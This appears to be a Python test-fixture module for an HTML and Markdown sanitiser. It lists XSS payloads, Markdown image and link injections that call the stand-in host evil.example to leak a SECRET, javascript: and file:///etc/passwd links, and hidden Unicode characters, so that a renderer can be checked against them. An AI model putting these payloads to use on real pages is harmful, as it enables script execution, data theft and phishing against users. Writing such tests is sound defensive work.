"""Texts that try to run code, to load something from elsewhere, or to look like others.

Each would set `window.ran` or reach `evil.example` if a page made markup of it.
"""

from __future__ import annotations

MARKUP = [
    "<script>window.ran = 1</script>",
    "</script><script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 1'>",
    "<img src='https://evil.example/SECRET'>",
    "<svg onload='window.ran = 1'><image href='https://evil.example/i'/></svg>",
    "<svg><script href='data:,window.ran=1'></script></svg>",
    "<iframe src='javascript:parent.ran = 1'></iframe>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
    "<link rel=stylesheet href='https://evil.example/s.css'>",
    "<link rel=prefetch href='https://evil.example/p'>",
    "<style>@import 'https://evil.example/i.css'; * {background: url(https://evil.example/b)}</style>",
    "<p style='background: url(https://evil.example/c)'>styled</p>",
    "<meta http-equiv=refresh content='0; url=https://evil.example/r'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example/f'><input autofocus onfocus='window.ran = 1'></form>",
    "<video poster='https://evil.example/v' src='https://evil.example/w'></video>",
    "<audio src=x onerror='window.ran = 1'>",
    "<details open ontoggle='window.ran = 1'>more</details>",
    "<a href='https://evil.example' ping='https://evil.example/ping'>ping</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.ran = 1'>",
    "<x-box onclick='window.ran = 1' id=app class=frame>box</x-box>",
    "<template><img src='https://evil.example/t'></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "${window.ran = 1} {{constructor.constructor('window.ran = 1')()}}",
    "&lt;img src=x onerror=window.ran=1&gt; &#60;script&#62;window.ran=1&#60;/script&#62;",
]
MARKDOWN = [
    "![pixel](https://evil.example/m?SECRET)",
    "![pixel][ref]\n\n[ref]: https://evil.example/n 'SECRET'",
    "[![pixel](https://evil.example/q)](https://evil.example/linked)",
    "[script](javascript:window.ran=1)",
    "[entity](&#106;avascript:window.ran=1)",
    "[case](JaVaScRiPt:window.ran=1)",
    "[tab](java\tscript:window.ran=1)",
    "[page](data:text/html,<script>window.ran=1</script>)",
    "[vb](vbscript:window.ran=1) [file](file:///etc/passwd) [blob](blob:https://evil.example/1)",
    "<javascript:window.ran=1>",
    "[bare](//evil.example/s) https://evil.example/auto <https://evil.example/angle>",
    "[https://bank.example](https://evil.example/phish)",
    "[quote](https://evil.example/\"onmouseover='window.ran=1')",
    "[title](https://evil.example 'x\" onclick=\"window.ran=1')",
    '```"><script>window.ran=1</script>\n<img src=x onerror=window.ran=1>\n```',
    "| <img src=x onerror=window.ran=1> | ![p](https://evil.example/cell) |\n|---|---|\n| x | y |",
    "- [ ] <input onfocus=window.ran=1 autofocus>\n- ![p](https://evil.example/item)",
    "# <script>window.ran=1</script> ![p](https://evil.example/head)",
    "> <img src='https://evil.example/quoted'>",
    "$$\\href{javascript:window.ran=1}{x}$$ \\includegraphics{https://evil.example/tex}",
]
# Characters that hide text or change its direction: what they are, and the mark that shows them.
HIDDEN = {
    "\u202e": "U+202E",  # turns the text around
    "\u2066": "U+2066",  # isolates a part
    "\u200b": "U+200B",  # takes no place
    "\u00ad": "U+00AD",  # takes no place
    "\ufeff": "U+FEFF",
    "\U000e0041": "U+E0041",  # a letter that nobody sees
    "\u3164": "U+3164",  # looks like a space, and is a letter
    "\x07": "U+0007",
}
# What no text may become.
ELEMENTS = (
    "script, img, iframe, object, embed, link, style, meta, base, form, video, audio, template,"
    " math, x-box, svg:not(.icon), image, noscript, [onclick], [onerror], [onload], [style]"
)
